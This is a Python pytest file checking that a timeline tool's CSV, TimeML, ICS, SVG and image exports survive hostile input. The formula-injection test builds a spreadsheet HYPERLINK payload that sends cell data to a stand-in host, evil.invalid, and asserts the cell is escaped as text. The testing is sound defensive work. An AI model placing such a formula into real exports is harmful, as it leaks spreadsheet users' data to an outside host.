"""Output that other programs can take (issue 15): CSV cells never run as formulas, control
characters never make TimeML or SVG ill-formed or reach a calendar, image sizes and DPI are checked."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
import xml.etree.ElementTree as ET
from dataclasses import replace
from datetime import date

import pytest

from explorer.exports.data import write_csv
from explorer.exports.ics import to_ics
from explorer.exports.timeml import to_timeml
from explorer.temporal.timex import Timex
from explorer.timeline import EventsArray

from .conftest import make_event

HOSTILE = "Nul\x00 vt\x0b ff\x0c esc\x1b[31m bell\x07 on 5 May 2003"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_look_like_formulas_are_neutralised(start: str) -> None:
    payload = f'{start}HYPERLINK("http://evil.invalid/?"&A1,"click")'
    event = replace(make_event(1, title=payload, begin=date(2003, 5, 5)), sentence=payload, actors=(payload,))
    out = io.StringIO()
    write_csv([event], out)
    row = next(csv.DictReader(io.StringIO(out.getvalue())))
    for field in ("title", "sentence"):
        assert row[field] == "'" + payload  # shown as text, the payload kept
    assert json.loads(row["actors"]) == [payload]  # a list cell is a JSON array: it starts with "["
    assert row["begin"] == "2003-05-05"


def test_csv_numbers_and_bc_dates_stay_as_they_are() -> None:
    event = replace(make_event(1, begin=date(2003, 5, 5)), title="-12", value="-0044-03-15", sentence="+3.5")
    row = next(csv.DictReader(io.StringIO((lambda o: (write_csv([event], o), o.getvalue())[1])(io.StringIO()))))
    assert (row["title"], row["value"], row["sentence"]) == ("-12", "-0044-03-15", "+3.5")


def test_timeml_with_control_characters_is_well_formed_and_keeps_offsets() -> None:
    start = HOSTILE.index("5 May 2003")
    timex = Timex(start, start + len("5 May 2003"), "5 May 2003", "DATE", "2003-05-05")
    xml = to_timeml(HOSTILE, [timex], date(2003, 5, 6), doc_id="doc\x01")
    root = ET.fromstring(xml)
    text = "".join(root.find("TEXT").itertext())
    assert len(text) == len(HOSTILE) and text[start:].startswith("5 May 2003")
    assert root.find("TEXT/TIMEX3").text == "5 May 2003"


def test_ics_has_no_control_characters_and_is_read_by_icalendar() -> None:
    icalendar = pytest.importorskip("icalendar")
    event = replace(make_event(1, doc="a\udcff\x1b.txt", title=HOSTILE, begin=date(2003, 5, 5)), sentence=HOSTILE)
    text = to_ics([event])
    body = text.replace("\r\n", "")
    assert not any(ch < " " and ch != "\t" for ch in body)
    calendar = icalendar.Calendar.from_ical(text.encode("utf-8"))
    (vevent,) = calendar.walk("VEVENT")
    assert "5 May 2003" in str(vevent["SUMMARY"])


def test_svg_with_control_characters_in_titles_is_well_formed(qapp, tmp_path) -> None:
    from explorer.gui.render.export import export_timeline

    events = [make_event(i, title=f"{HOSTILE} {i}", begin=date(2003, 5, i + 1)) for i in range(3)]
    path, _ = export_timeline(EventsArray.from_events(events, "none"), tmp_path / "t.svg", size=(900, 400),
                              title="Title\x1b[0m\x00")
    ET.parse(path)  # raises on ill-formed XML


@pytest.mark.parametrize("size, dpi, words", [
    ((1600, 900), 5000, "resolution must be"),
    ((1600, 900), float("nan"), "resolution must be"),
    ((1600, 900), 0, "resolution must be"),
    ((1600, 900), -96, "resolution must be"),
    ((1600, 900), 1e9, "resolution must be"),
    ((20000, 20000), 1200, "lower the size or the DPI"),
    ((0, 900), 96, "size must be"),
])
def test_image_sizes_and_dpi_are_validated(size, dpi, words) -> None:
    from explorer.gui.render.export import check_image_request

    with pytest.raises(ValueError, match=words):
        check_image_request(size, dpi, "png")


def test_cli_export_refuses_a_huge_dpi_at_once(tmp_path) -> None:
    (tmp_path / "a.txt").write_text("On 5 May 2003 the treaty was signed.\n", encoding="utf-8")
    done = subprocess.run([sys.executable, "-m", "explorer", "export", str(tmp_path / "a.txt"), "-o",
                           str(tmp_path / "t.png"), "--dpi", "5000"], capture_output=True, text=True, timeout=120)
    assert done.returncode == 2 and "resolution must be 24-1200 DPI" in done.stderr
    assert not (tmp_path / "t.png").exists()


def test_the_app_refuses_a_too_big_image_with_a_message_not_an_error(qtbot, qapp, tmp_path, monkeypatch) -> None:
    """The dialog allows 20000 x 20000 pixels and 1200 DPI: together they are refused in words."""
    from PySide6.QtWidgets import QDialog, QFileDialog, QMessageBox

    from explorer.gui.app import create_app
    from explorer.gui.export_dialog import ExportOptionsDialog
    from explorer.gui.main_window import MainWindow

    create_app()
    from tests.gui.conftest import build_corpus

    window = MainWindow()
    qtbot.addWidget(window, before_close_func=lambda w: w.teardown())
    window.add_documents(build_corpus())  # something to draw: with nothing, Export Image says so instead
    qtbot.waitUntil(lambda: window.timeline.mark_count() == 5)
    path = tmp_path / "huge.png"
    monkeypatch.setattr(QFileDialog, "getSaveFileName", staticmethod(lambda *a, **k: (str(path), "")))
    monkeypatch.setattr(ExportOptionsDialog, "exec", lambda self: QDialog.DialogCode.Accepted)
    monkeypatch.setattr(ExportOptionsDialog, "options", lambda self: ((20000, 20000), 1200, "Huge"))
    warned: list[str] = []
    monkeypatch.setattr(QMessageBox, "warning", staticmethod(lambda *a: warned.append(a[2])))
    window.actions["export_image"].trigger()
    assert warned and "lower the size or the DPI" in warned[0]
    assert not path.exists()
